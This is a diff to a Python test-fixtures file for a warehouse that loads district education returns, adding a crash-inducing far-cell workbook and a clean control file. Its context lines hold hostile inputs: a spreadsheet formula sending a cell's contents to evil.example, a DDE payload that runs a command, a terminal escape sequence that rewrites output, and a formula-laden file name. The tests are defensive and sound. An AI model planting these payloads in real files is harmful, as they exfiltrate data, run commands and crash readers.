@@ -87,6 +87,7 @@ FORMULA_PAYLOAD = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
 COMMAND_PAYLOAD = "+cmd|' /C calc'!A0"
 TERMINAL_PAYLOAD = "\x1b[6A\x1b[J26 published + 0 quarantined"
 HOSTILE_FILE_NAME = "=1+1 [here](https:evil.example) thanet_2023-24_t4.csv"
+TERMLY_HEADER = ["district", "academic_year", "term", "phase", "measure", "value"]
 
 
 def hostile_return(folder: Path) -> Path:
@@ -112,11 +113,40 @@ def hostile_return(folder: Path) -> Path:
     return path
 
 
+def far_cell_workbook(folder: Path, name: str = "far.xlsx") -> Path:
+    """A 5 KB workbook with a header at A1 and one number at XFD1048576, Excel's last cell:
+    read as is, the engine asks for a grid of 17 billion cells and aborts the process."""
+    import xlsxwriter
+
+    path = folder / name
+    with xlsxwriter.Workbook(str(path)) as book:
+        sheet = book.add_worksheet("Return")
+        for col, header in enumerate(TERMLY_HEADER):
+            sheet.write_string(0, col, header)
+        sheet.write_number(1_048_575, 16_383, 1)
+    return path
+
+
+def good_return(folder: Path) -> Path:
+    """Swale's 2023-24 term 4 return again, one figure changed: a good file to load beside
+    the hostile ones."""
+    source = DATA_DIR / "returns" / "2023-24" / "term4" / "stls_return_swale_2023-24_t4.csv"
+    text = source.read_text(encoding="utf-8").replace(
+        "Swale,2023-24,4,early_years,transition_events,3",
+        "Swale,2023-24,4,early_years,transition_events,4",
+    )
+    path = folder / "swale_2023-24_t4_corrected.csv"
+    path.write_text(text, encoding="utf-8")
+    return path
+
+
 @pytest.fixture(scope="session")
 def hostile_warehouse(demo_warehouse, tmp_path_factory) -> Path:
-    """The demo warehouse after a load of ``hostile_return``: Thanet's term 4 is held, and
-    every page and output that shows received text has the payloads to show."""
+    """The demo warehouse after one load of ``hostile_return``, ``far_cell_workbook`` and
+    ``good_return``: Thanet's term 4 is held, the workbook rejected, Swale's return
+    published; every page and output that shows received text has the payloads to show."""
     path = tmp_path_factory.mktemp("hostile") / "stls.duckdb"
     shutil.copyfile(demo_warehouse, path)
-    load([hostile_return(tmp_path_factory.mktemp("hostile_data"))], path)
+    folder = tmp_path_factory.mktemp("hostile_data")
+    load([hostile_return(folder), far_cell_workbook(folder), good_return(folder)], path)
     return path
